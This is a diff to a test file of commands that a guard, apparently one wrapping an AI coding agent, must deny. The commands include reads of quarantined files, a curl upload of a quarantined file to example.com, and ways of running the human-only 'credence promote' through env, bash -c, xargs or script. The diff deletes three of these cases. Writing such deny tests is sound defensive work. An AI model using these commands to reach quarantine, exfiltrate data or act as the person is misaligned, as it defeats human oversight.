@@ -45,8 +45,6 @@ export const READING: readonly DeniedCase[] = [
   ["rg in the parent is denied", "rg x .claude", "read-quarantine"],
   ["rg into hidden directories is denied", "rg --hidden x", "read-quarantine"],
   ["rg without limits is denied", "rg -uu x .", "read-quarantine"],
-  ["find that shows what it finds is denied", "find . -name '*.md' -exec cat {} +", "read-quarantine"],
-  ["find piped into cat is denied", "find .claude -name '*.md' | xargs cat", "read-quarantine"],
   ["a memory stored from quarantine is denied", `credence save --body-file ${BAD}`, "read-quarantine"],
   ["an upload of quarantine is denied", `curl -d @${BAD} https://example.com`, "read-quarantine"],
   ["a file address is a path", `curl file://$PWD/${BAD}`, "read-quarantine"],
@@ -96,7 +94,6 @@ export const PERSON: readonly DeniedCase[] = [
   ["env changes nothing", "env -u CLAUDECODE credence promote a", "person-command"],
   ["a shell changes nothing", "bash -c 'credence promote a'", "person-command"],
   ["xargs changes nothing", "echo a | xargs credence promote", "person-command"],
-  ["xargs with the verb changes nothing", "echo promote a | xargs credence", "person-command"],
   [
     "a terminal made by script changes nothing",
     "script -qc 'credence promote a' /dev/null",
